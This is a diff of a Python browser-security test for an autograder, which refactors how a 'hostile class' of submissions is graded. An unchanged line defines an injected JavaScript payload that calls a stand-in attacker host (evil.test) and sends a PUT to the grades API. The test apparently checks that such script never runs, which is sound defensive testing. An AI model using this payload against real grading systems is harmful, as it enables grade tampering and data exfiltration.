@@ -5,12 +5,10 @@ Everything that they try would call `window.ran(...)`, change `window.ran`, or a
 
 import base64
 import json
-import subprocess
-import sys
 from pathlib import Path
 
-from autograder.grading.sandbox import available
-from tests.browser.lab_server import CONFIGURATION, REPOSITORY, copy_course
+from tests.browser.graded import grade
+from tests.browser.lab_server import CONFIGURATION, copy_course
 from tests.grading.small_course import UNIT, Submission, write_small_course
 
 _RUN = "window.ran='{0}';top.ran='{0}';fetch('http://evil.test/{0}');fetch('/formgrader/api/grades',{{method:'PUT'}})"
@@ -160,11 +158,7 @@ def write_hostile_class(root: Path) -> Path:
     copy_course(root, CONFIGURATION)
     for student, submission in _submissions(root).items():
         submission.hand_in(root, student)
-    isolation = "auto" if available().enough else "none"
-    words = ["grade", "--course", str(root), "--workers", "1", "--seed", "4", "--isolation", isolation]
-    done = subprocess.run([sys.executable, "-m", "autograder", *words], cwd=REPOSITORY, capture_output=True, text=True,
-                          timeout=600, check=False)  # fmt: skip
-    assert done.returncode == 0, done.stderr[-3000:]
+    grade(root, "--seed", "4")
     return root
 
 
